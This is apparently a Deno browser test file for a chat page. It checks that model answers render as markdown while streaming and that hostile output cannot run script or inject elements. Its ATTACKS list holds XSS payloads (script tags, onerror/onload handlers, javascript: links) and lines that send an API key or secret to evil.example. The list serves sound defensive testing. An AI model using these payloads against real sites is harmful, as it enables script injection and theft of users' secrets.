/// <reference lib="dom" />
/// <reference lib="deno.ns" />
/**
 * Answers render as markdown, progressively while they stream, and nothing in a model's output
 * can run script or add markup of its own.
 */

import { assert, assertEquals, assertMatch } from "@std/assert";
import {
  lastAnswerText,
  openChatPage,
  sendMessage,
  waitForAnswer,
  waitForAnswerText,
} from "../../testing/browser.ts";

const MARKDOWN = [
  "## Steps",
  "",
  "Some *emphasis*, **strong** words and `inline code`.",
  "",
  "- first item",
  "- second item",
  "",
  "See [the docs](https://example.com/docs).",
  "",
  "```js",
  'console.log("hi");',
  "```",
  "",
  "Done.",
].join("\n");

Deno.test("answers render as markdown, block by block while they stream", async () => {
  const chat = await openChatPage({
    fake: { reply: MARKDOWN, thinking: "", scenario: "hold-last-token" },
  });
  const { page, fake, context } = chat;
  try {
    await context.grantPermissions(["clipboard-read", "clipboard-write"]);
    await sendMessage(page, "format something");
    const answer = page.locator(".message.bot .markdown");

    // While the answer streams, the blocks that have arrived are already rendered.
    await page.waitForFunction(() => document.querySelector(".message.bot .markdown pre code"));
    assertEquals(await answer.locator("h2").innerText(), "Steps");
    assertEquals(await answer.locator("li").count(), 2);
    assertEquals(await page.getAttribute(".message.bot", "aria-busy"), "true");

    fake.releaseLastToken();
    await waitForAnswer(page);
    assertEquals(await answer.locator("h2").innerText(), "Steps");
    assertEquals(await answer.locator("em").innerText(), "emphasis");
    assertEquals(await answer.locator("strong").innerText(), "strong");
    assertEquals(await answer.locator(":not(pre) > code").innerText(), "inline code");
    assertEquals(await answer.locator("ul > li").allInnerTexts(), [
      "first item",
      "second item",
    ]);
    const link = answer.locator("a");
    assertEquals(await link.getAttribute("href"), "https://example.com/docs");
    assertEquals(await link.getAttribute("target"), "_blank");
    assertEquals(await link.getAttribute("rel"), "noopener noreferrer nofollow");
    assertEquals(await answer.locator(".code-header span").innerText(), "js");
    assertEquals((await answer.locator("pre code").innerText()).trimEnd(), 'console.log("hi");');
    assertMatch(await lastAnswerText(page), /Done\.$/);

    await answer.locator(".copy-code").click();
    await page.waitForFunction(() =>
      document.querySelector(".copy-code")?.textContent === "Copied"
    );
    assertEquals(
      await page.evaluate(() => navigator.clipboard.readText()),
      'console.log("hi");',
    );
  } finally {
    await chat.close();
  }
});

/** Model output that tries to run script or add elements in every way the page could fall for. */
const ATTACKS = [
  "<script>window.hacked = 'script'</script>",
  '<img src="x" onerror="window.hacked = \'img\'">',
  "<svg onload=\"window.hacked = 'svg'\"><circle r=1></circle></svg>",
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  "<style>body { display: none }</style>",
  '<div id="message-input" class="message user" style="position:fixed;inset:0">cover</div>',
  '<form action="https://evil.example"><input name="api-key"></form>',
  "[click me](javascript:window.hacked='link')",
  "![pixel](https://evil.example/leak.png?key=secret)",
  '<a href="javascript:window.hacked=1">html link</a>',
  "<details open ontoggle=\"window.hacked='details'\">x</details>",
  "&lt;script&gt;window.hacked='entity'&lt;/script&gt;",
  "```html\n<script>window.hacked = 'code'</script>\n```",
].join("\n\n");

/** Elements the sanitized answer may hold: markdown's, and the code block frame the page adds. */
const ALLOWED = (
  "A BLOCKQUOTE BR CODE DEL EM H1 H2 H3 H4 H5 H6 HR LI OL P PRE STRONG TABLE TBODY TD TH THEAD TR " +
  "UL DIV SPAN BUTTON"
).split(" ");

Deno.test("an XSS attempt in model output does not run and injects no element", async () => {
  const chat = await openChatPage({
    fake: { reply: ATTACKS, thinking: "<img src=x onerror=\"window.hacked='thinking'\">" },
  });
  const { page } = chat;
  try {
    await sendMessage(page, "<img src=x onerror=\"window.hacked='prompt'\">");
    await waitForAnswer(page);
    const found = await page.evaluate((allowed) => {
      const answer = document.querySelector(".message.bot .markdown")!;
      const elements = [...answer.querySelectorAll("*")];
      return {
        hacked: (window as unknown as { hacked?: unknown }).hacked ?? null,
        unexpected: elements.map((e) => e.tagName).filter((tag) => !allowed.includes(tag)),
        // The page's own frame (code blocks) carries classes; nothing from the model does.
        foreign: elements.flatMap((e) =>
          [...e.attributes]
            .filter((a) => /^on|^style$|^id$|^src/i.test(a.name))
            .map((a) => `${e.tagName} ${a.name}`)
        ),
        hrefs: [...answer.querySelectorAll("a")].map((a) => a.getAttribute("href")),
        pageImages: document.images.length,
        messageInputs: document.querySelectorAll("#message-input").length,
        text: answer.textContent,
      };
    }, ALLOWED);

    assertEquals(found.hacked, null, "no script ran");
    assertEquals(found.unexpected, [], "no element beyond markdown's");
    assertEquals(found.foreign, [], "no handler, style, id or src attribute");
    assert(
      found.hrefs.every((href) => href === null || href.startsWith("https://")),
      `only https links: ${found.hrefs}`,
    );
    assertEquals(found.pageImages, 0, "no image loads from the model's choice of server");
    assertEquals(found.messageInputs, 1, "no second #message-input");
    assert(found.text!.includes("<script>window.hacked = 'script'</script>"), "shown as text");
    assertEquals(
      await page.locator(".message.user .message-text").innerText(),
      "<img src=x onerror=\"window.hacked='prompt'\">",
    );
    assertEquals(
      await page.locator(".thinking-text").textContent(),
      "<img src=x onerror=\"window.hacked='thinking'\">",
    );
    assertEquals(await page.isVisible("#message-input"), true, "the page is still usable");
  } finally {
    await chat.close();
  }
});

Deno.test("raw HTML written by the model shows as text while streaming too", async () => {
  const chat = await openChatPage({
    fake: { reply: "Look: <b>bold?</b> <img src=x onerror=alert(1)> end", thinking: "" },
  });
  const { page } = chat;
  try {
    await sendMessage(page, "html please");
    await waitForAnswerText(page, "Look: <b>bold?</b> <img src=x onerror=alert(1)> end");
    assertEquals(await page.locator(".message.bot b, .message.bot img").count(), 0);
  } finally {
    await chat.close();
  }
});
